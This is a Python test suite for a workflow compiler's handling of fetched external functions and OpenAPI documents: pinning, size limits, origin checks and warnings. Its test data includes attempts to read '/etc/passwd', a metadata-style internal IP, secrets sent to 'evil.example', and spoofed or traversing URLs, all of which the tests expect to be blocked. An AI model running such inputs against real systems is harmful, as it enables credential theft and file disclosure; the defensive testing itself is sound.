"""What workflows name by URL becomes part of the revision and pins it, whatever it is."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from iogate.compiler.checks import origins
from iogate.compiler.compile import Compiled, compile_documents
from iogate.compiler.diagnostics import Purpose
from iogate.compiler.program import load as load_program
from iogate.compiler.resources import document_addresses
from iogate.compiler.resources.document_sources import FetchFailed
from iogate.compiler.tasks import Inline, OpenApi
from iogate.compiler.variables import KEY
from iogate.documents import load
from iogate.settings import Settings
from tests.compiler.projects import told, write

API: dict[str, Any] = {
    "openapi": "3.1.0",
    "servers": [{"url": "/v1"}],
    "paths": {"/x": {"get": {"operationId": "x"}}},
}
DOCUMENT = "https://docs.example/a/api.json"
FUNCTION = "https://lib.example/f/function.yaml"
CALLS = f"""\
document: {{dsl: '1.0.3', namespace: shop, name: order, version: '1.0.0'}}
do:
  - one: {{call: openapi, with: {{document: {{endpoint: '{DOCUMENT}'}}, operationId: x}}}}
  - two: {{call: '{FUNCTION}', with: {{n: 1}}}}
"""


class Web:
    """Pages by their URLs; remembers what was asked for."""

    def __init__(self, pages: Mapping[str, bytes | str]) -> None:
        self.pages = pages
        self.asked: list[str] = []
        self.foreign: list[str] = []

    def __call__(self, uri: str, policy: Mapping[str, Any] | None, *, foreign: bool) -> bytes:
        del policy
        self.asked.append(uri)
        if foreign:
            self.foreign.append(uri)
        page = self.pages.get(uri)
        if page is None:
            raise FetchFailed("it is not there")
        return page if isinstance(page, bytes) else page.encode()


def compiled(root: Path, text: str, web: Web | None, *, purpose: Purpose = "apply") -> Compiled:
    write(root, {"workflows.d/order.yaml": text})
    settings = Settings(allow_run=("script", "shell"), function_origins=("https://lib.example",))
    return compile_documents(load(root), settings, root=root, purpose=purpose, fetch=web)


def both(**pages: bytes | str) -> Web:
    given: dict[str, bytes | str] = {DOCUMENT: json.dumps(API), FUNCTION: "set: {n: '${ .n }'}"}
    return Web({**given, **{{"document": DOCUMENT, "function": FUNCTION}[k]: v for k, v in pages.items()}})


def program_of(made: Compiled) -> dict[str, Any]:
    assert made.bundle is not None, made.errors
    (program,) = made.bundle.programs.values()
    found: dict[str, Any] = json.loads(program)
    return found


def test_a_program_has_its_references_and_the_definition_is_the_document(tmp_path: Path) -> None:
    source = program_of(compiled(tmp_path, CALLS, both()))
    assert source[KEY]["operations"]["/do/0/one"]["url"] == "https://docs.example/v1/x"
    assert source[KEY]["calls"] == {"/do/1/two": FUNCTION}
    loaded = load_program(source)
    assert list(loaded.definition) == ["document", "do"]
    assert isinstance(loaded.tasks["/do/0/one"].body, OpenApi)
    called = loaded.tasks["/do/1/two"].body
    assert isinstance(called, Inline)
    assert called.name == FUNCTION


def test_equal_documents_give_equal_programs_and_others_give_others(tmp_path: Path) -> None:
    first, again = (compiled(tmp_path, CALLS, both()) for _ in range(2))
    other = compiled(tmp_path, CALLS, both(function="set: {n: 2}"))
    assert first.bundle is not None
    assert again.bundle is not None
    assert other.bundle is not None
    assert first.bundle.revision.digest == again.bundle.revision.digest
    assert first.bundle.revision.digest != other.bundle.revision.digest


def test_operations_that_are_not_called_do_not_change_the_program(tmp_path: Path) -> None:
    more = {**API, "paths": {**API["paths"], "/y": {"get": {"operationId": "y"}}}}
    first, second = (
        compiled(tmp_path, CALLS, both()),
        compiled(tmp_path, CALLS, both(document=json.dumps(more))),
    )
    assert first.bundle is not None
    assert second.bundle is not None
    assert first.bundle.revision.digest == second.bundle.revision.digest


def test_validate_asks_for_nothing_and_apply_without_a_way_out_refuses(tmp_path: Path) -> None:
    assert told(compiled(tmp_path, CALLS, None, purpose="validate")) == []
    assert told(compiled(tmp_path, CALLS, None)) == [
        f"workflows.d/order.yaml:3:54 IOG307 {DOCUMENT} is not fetched here",
        f"workflows.d/order.yaml:4:17 IOG307 {FUNCTION} is not fetched here",
    ]


@pytest.mark.parametrize(
    ("page", "why"),
    [
        (None, "cannot be fetched: it is not there"),
        (b"\xff\xfe\x00", "is not UTF-8 text"),
        (b" " * (5 * 2**20 + 1), "is over 5 MiB"),
        (b"a: [", ":2:1: the YAML does not hold"),
    ],
)
def test_an_unusable_document_is_reported_at_its_place(tmp_path: Path, page: bytes | None, why: str) -> None:
    web = both() if page is None else both(document=page)
    if page is None:
        web.pages = {FUNCTION: web.pages[FUNCTION]}
    (problem,) = told(compiled(tmp_path, CALLS, web))
    assert problem.startswith("workflows.d/order.yaml:3:54 IOG307 https://docs.example/a/api.json")
    assert why in problem


@pytest.mark.parametrize(
    "page",
    [
        b"",
        b"null",
        b"7",
        b"[]",
        b"{}",
        b"set: 1",
        b"call: 7",
        b"do: [x]",
        b"use: {functions: {}}",
        b"call: http",
        b"run: {workflow: {}}",
        b"for: {in: 1}",
        b"set: &a {b: *a}",
        b"\x00",
        b"{" * 300,
        b"call: 'https://['",
        b"call: openapi\nwith: {document: {endpoint: 'https://['}, operationId: x}",
        b"run: {script: {language: python, source: {endpoint: ../../../../etc/passwd}}}",
        b"run: {script: {language: python, source: {endpoint: 'file:///etc/passwd'}}}",
        b"input: {schema: {resource: {endpoint: 'file:x.json'}}}\nset: {a: 1}",
    ],
)
def test_no_function_makes_the_compiler_fail_or_reads_a_file_of_ours(tmp_path: Path, page: bytes) -> None:
    web = both(function=page)
    made = compiled(tmp_path, CALLS, web)
    assert made.bundle is None
    assert all(problem.code in {"IOG307", "IOG309"} for problem in made.errors)
    assert all(problem.line == 4 for problem in made.errors)


def test_a_document_is_fetched_once_however_often_it_is_named(tmp_path: Path) -> None:
    web = both()
    text = CALLS + CALLS.partition("do:\n")[2].replace("one", "three").replace("two", "four")
    assert compiled(tmp_path, text, web).errors == ()
    assert web.asked == [DOCUMENT, FUNCTION]


def script(uri: str) -> dict[str, Any]:
    return {"run": {"script": {"language": "python", "source": {"endpoint": uri}}}}


def test_a_host_that_only_a_fetched_document_names_is_foreign(
    tmp_path: Path,
) -> None:
    own, other = "https://lib.example/own.py", "http://169.254.1.1/latest.py"
    named = (("own", own), ("beside", "beside.py"), ("other", other), ("bare", "//10.0.0.1/x.py"))
    web = both(function=json.dumps({"do": [{name: script(uri)} for name, uri in named]}))
    compiled(tmp_path, CALLS, web)
    assert {own, other, "https://lib.example/f/beside.py"} < set(web.asked)
    assert web.foreign == [other, "https://10.0.0.1/x.py"]


def test_documents_beside_a_foreign_document_are_foreign(tmp_path: Path) -> None:
    """Its host may have another address by the time that it is asked again, or called."""
    inner, api = "https://third.example/f.yaml", "https://third.example/api.json"
    call = {"call": "openapi", "with": {"document": {"endpoint": "api.json"}, "operationId": "x"}}
    web = both(function=f"call: {inner}")
    web.pages = {**web.pages, inner: json.dumps(call), api: json.dumps(API)}
    source = program_of(compiled(tmp_path, CALLS, web))
    assert web.foreign == [inner, api]
    operations = source[KEY]["operations"]
    assert sorted((each["url"], each["foreign"]) for each in operations.values()) == [
        ("https://docs.example/v1/x", False),
        ("https://third.example/v1/x", True),
    ]


@pytest.mark.parametrize("foreign", [False, True])
def test_a_stored_document_beside_a_foreign_document_stays_foreign(tmp_path: Path, *, foreign: bool) -> None:
    """Only the call knows its operation, and therefore its address."""
    inner, api = "https://third.example/f.yaml", "https://third.example/api.json"
    call = {"call": "openapi", "with": {"document": {"endpoint": "api.json"}, "operationId": '${ "x" }'}}
    web = both(function=f"call: {inner}")
    web.pages = {**web.pages, inner: json.dumps(call), api: json.dumps(API)}
    source = program_of(compiled(tmp_path, CALLS if foreign else CALLS.replace(FUNCTION, inner), web))
    (pointer,) = source[KEY]["documents"]
    assert source[KEY].get("foreign", []) == ([pointer] if foreign else [])
    body = load_program(source).tasks[pointer].body
    assert isinstance(body, OpenApi)
    assert body.foreign is foreign


def test_functions_that_lead_to_ever_more_functions_come_to_an_end(tmp_path: Path) -> None:
    class Endless(Web):
        def __call__(self, uri: str, policy: Mapping[str, Any] | None, *, foreign: bool) -> bytes:
            if not uri.startswith(FUNCTION):
                return super().__call__(uri, policy, foreign=foreign)
            self.asked.append(uri)
            return f"call: {uri}x".encode()

    web = Endless(both().pages)
    (problem,) = told(compiled(tmp_path, CALLS, web))
    assert problem.startswith("workflows.d/order.yaml:4:17 IOG309")
    assert "the workflow has 100 external functions already" in problem
    assert len(web.asked) == 101


@pytest.mark.parametrize(
    ("page", "why"),
    [
        ('{"x": NaN}', "NaN is not a JSON number"),
        ('{"x": [-Infinity]}', "-Infinity is not a JSON number"),
        ('{"x": 1e999}', "a number is out of range"),
        ('{"x": "\\ud800"}', ":1:10: the YAML does not hold: found invalid Unicode"),
    ],
)
def test_json_that_cannot_be_stored_is_reported(tmp_path: Path, page: str, why: str) -> None:
    (problem,) = told(compiled(tmp_path, CALLS, both(document=page)))
    assert problem.startswith("workflows.d/order.yaml:3:54 IOG307 https://docs.example/a/api.json")
    assert why in problem


EVIL = "https://evil.example/take"


@pytest.mark.parametrize(
    "policy",
    [
        {"bearer": {"token": "${ $secrets.prod }"}},
        {"bearer": {"token": "${ $context.x }"}},
        {"basic": {"use": "prod"}},
        {"oauth2": {"use": "prod"}},
        {
            "oauth2": {
                "authority": EVIL,
                "grant": "password",
                "username": "u",
                "password": "${ $secrets.prod }",
            }
        },
    ],
)
@pytest.mark.parametrize("kind", ["script", "document"])
def test_an_external_function_sends_no_secret_to_the_host_of_its_documents(
    tmp_path: Path, policy: dict[str, Any], kind: str
) -> None:
    """It is not even asked for: whoever wrote the function may keep the place, too."""
    endpoint = {"uri": EVIL, "authentication": policy}
    script = {"run": {"script": {"language": "python", "source": {"endpoint": endpoint}}}}
    call = {"call": "openapi", "with": {"document": {"endpoint": endpoint}, "operationId": "x"}}
    web = both(function=json.dumps(script if kind == "script" else call))
    made = compiled(tmp_path, CALLS, web)
    assert EVIL not in web.asked
    assert any("an external function presents no secrets" in each.message for each in made.errors)


def test_an_external_function_may_not_name_secrets_in_any_text(tmp_path: Path) -> None:
    endpoint = '${ "https://evil.example/" + $secrets.prod }'
    call = {"call": "openapi", "with": {"document": {"endpoint": endpoint}, "operationId": "x"}}
    made = compiled(tmp_path, CALLS, both(function=json.dumps(call)))
    assert any("an external function cannot read $secrets" in each.message for each in made.errors)


def test_a_relative_name_in_a_fetched_document_is_meant_from_there(tmp_path: Path) -> None:
    function = "run: {script: {language: python, source: {endpoint: ../lib/a.py}}}"
    web = Web({**both(function=function).pages, "https://lib.example/lib/a.py": "print(1)"})
    made = compiled(tmp_path, CALLS, web)
    assert made.errors == ()
    assert made.bundle is not None
    assert list(made.bundle.contents.values()) == [b"print(1)"]
    (uri,) = made.bundle.revision.resources
    assert uri.startswith("project:///https%3A//lib.example/lib/a.py#")


@pytest.mark.parametrize(
    ("page", "file"),
    [
        ("https://example.com/f.yaml", "https://example.com/f.yaml"),
        (
            "https://github.com/o/r/blob/main/f/function.yaml",
            "https://raw.githubusercontent.com/o/r/refs/heads/main/f/function.yaml",
        ),
        (
            "https://github.com/o/r/tree/v1.2.0/f/function.yaml",
            "https://raw.githubusercontent.com/o/r/v1.2.0/f/function.yaml",
        ),
        (
            "https://github.com/o/r/blob/0123abcdef/f.yaml",
            "https://raw.githubusercontent.com/o/r/0123abcdef/f.yaml",
        ),
        (
            "https://github.com/myorg/functions/validateEmailAddress@v1.0.0",
            "https://raw.githubusercontent.com/myorg/functions/v1.0.0/validateEmailAddress/function.yaml",
        ),
        (
            "https://gitlab.com/g/s/r/-/blob/main/f.yaml",
            "https://gitlab.com/g/s/r/-/raw/main/f.yaml",
        ),
        ("https://git.example/g/r/-/tree/main/f.yaml", "https://git.example/g/r/-/raw/main/f.yaml"),
        ("https://[", "https://["),
    ],
)
def test_pages_of_repositories_are_read_as_the_files_behind_them(page: str, file: str) -> None:
    assert document_addresses.raw(page) == file


@pytest.mark.parametrize(
    ("root", "file"),
    [
        (
            "https://github.com/serverlessworkflow/catalog/tree/main",
            "https://raw.githubusercontent.com/serverlessworkflow/catalog/refs/heads/main/functions/log/1.0.0/function.yaml",
        ),
        (
            "https://github.com/serverlessworkflow/catalog",
            "https://raw.githubusercontent.com/serverlessworkflow/catalog/HEAD/functions/log/1.0.0/function.yaml",
        ),
        (
            "https://gitlab.com/g/catalog",
            "https://gitlab.com/g/catalog/-/raw/HEAD/functions/log/1.0.0/function.yaml",
        ),
        ("https://example.com/c/?key=a", "https://example.com/c/functions/log/1.0.0/function.yaml?key=a"),
        ("../catalog/", "../catalog/functions/log/1.0.0/function.yaml"),
    ],
)
def test_functions_lie_below_the_root_of_their_catalog(root: str, file: str) -> None:
    assert document_addresses.below(root, "functions/log/1.0.0/function.yaml") == file


def lint(root: Path, catalog: str, call: str) -> list[str]:
    text = f"""\
document: {{dsl: '1.0.3', namespace: shop, name: order, version: '1.0.0'}}
timeout: {{after: PT1M}}
use: {{catalogs: {{c: {{endpoint: '{catalog}'}}}}}}
do: [{{one: {{call: 'f:1.0.0@c'}}}}, {{two: {{call: '{call}'}}}}]
"""
    return told(compiled(root, text, None, purpose="validate"))


PINNED = "https://github.com/a/b/tree/v1.2.3"


@pytest.mark.parametrize(
    ("catalog", "ref"),
    [
        ("https://github.com/a/b/tree/main", "main"),
        ("https://github.com/a/b", "HEAD"),
        ("https://raw.githubusercontent.com/a/b/develop", "develop"),
        ("https://gitlab.com/g/p/-/tree/main", "main"),
        (PINNED, None),
        ("https://github.com/a/b/tree/0f1fd76c", None),
        ("https://gitlab.com/g/p/-/tree/v2.0.0", None),
        ("https://raw.githubusercontent.com/a/b/refs/tags/v1", None),
        ("https://lib.example/catalog", None),
    ],
)
def test_an_address_that_follows_a_branch_is_warned_of(tmp_path: Path, catalog: str, ref: str | None) -> None:
    expected = (
        f"""workflows.d/order.yaml:3:32 IOG519 {catalog} follows the branch "{ref}": each push changes it"""
    )
    assert lint(tmp_path, catalog, "https://lib.example/f.yaml") == ([expected] if ref else [])


def test_a_document_that_is_fetched_without_encryption_is_warned_of(tmp_path: Path) -> None:
    assert lint(tmp_path, "http://localhost:8080/c", "http://lib.example/f.yaml") == [
        "workflows.d/order.yaml:4:47 IOG518 http://lib.example/f.yaml is fetched without encryption: "
        "anybody on the way can change what it says"
    ]


@pytest.mark.parametrize(
    ("url", "prefix", "expected"),
    [
        ("https://a.example/c/f", "https://a.example/c", True),
        ("https://a.example/c/f", "https://A.example/c/", True),
        ("https://a.example/c", "https://a.example/c", True),
        ("https://a.example/cat/f", "https://a.example/c", False),
        ("https://a.example.evil/c/f", "https://a.example", False),
        ("https://a.example@evil.example/c/f", "https://a.example", False),
        ("https://a.example:8443/c/f", "https://a.example", False),
        ("http://a.example/c/f", "https://a.example", False),
        ("https://a.example/c/../d/f", "https://a.example/c", False),
        ("https://a.example/c/%2e%2e/d/f", "https://a.example/c", False),
        ("https://a.example/c/..%5cd/f", "https://a.example/c", False),
    ],
)
def test_an_origin_ends_at_the_border_of_a_path_segment(url: str, prefix: str, expected: bool) -> None:  # noqa: FBT001 - a table
    assert origins.is_below(url, prefix) is expected


@pytest.mark.parametrize(
    "origin", ["https://github.com/a/b", "https://github.com/a", "https://github.com/a/b/tree/v1.2.3"]
)
def test_an_origin_may_be_named_by_its_page(tmp_path: Path, origin: str) -> None:
    url = "https://raw.githubusercontent.com/a/b/v1.2.3/f.yaml"
    text = """\
document: {dsl: '1.0.3', namespace: shop, name: order, version: '1.0.0'}
timeout: {after: PT1M}
do: [{two: {call: 'https://github.com/a/b/blob/v1.2.3/f.yaml'}}]
"""
    write(tmp_path, {"workflows.d/order.yaml": text})
    web = Web({url: "run: {shell: {command: id}}"})
    for given, expected in (((origin,), []), ((), ["IOG324"])):
        settings = Settings(allow_run=("shell",), function_origins=given)
        made = compile_documents(load(tmp_path), settings, root=tmp_path, purpose="apply", fetch=web)
        assert [problem.code for problem in made.errors] == expected


@pytest.mark.parametrize(
    ("page", "action"),
    [
        ("listen: {to: {any: []}}", "listens for events"),
        ("do: [{one: {fork: {branches: [{two: {listen: {to: {any: []}}}}]}}}]", "listens for events"),
        ("emit: {event: {with: {source: 'https://a.example', type: order.paid}}}", "emits an event"),
        ("do: [{one: {set: {a: 1}, then: end}}]", None),
    ],
)
def test_an_external_function_has_no_part_in_events_unless_its_origin_is_named(
    tmp_path: Path, page: str, action: str | None
) -> None:
    write(tmp_path, {"workflows.d/order.yaml": CALLS})
    said = f"an external function {action}, and the setting function_origins does not name {FUNCTION}"
    for given in ((), ("https://lib.example/f",)):
        settings = Settings(function_origins=given)
        made = compile_documents(load(tmp_path), settings, root=tmp_path, fetch=both(function=page))
        expected = [] if action is None or given else [("IOG324", 4, said)]
        assert [(each.code, each.line, each.message) for each in made.errors] == expected
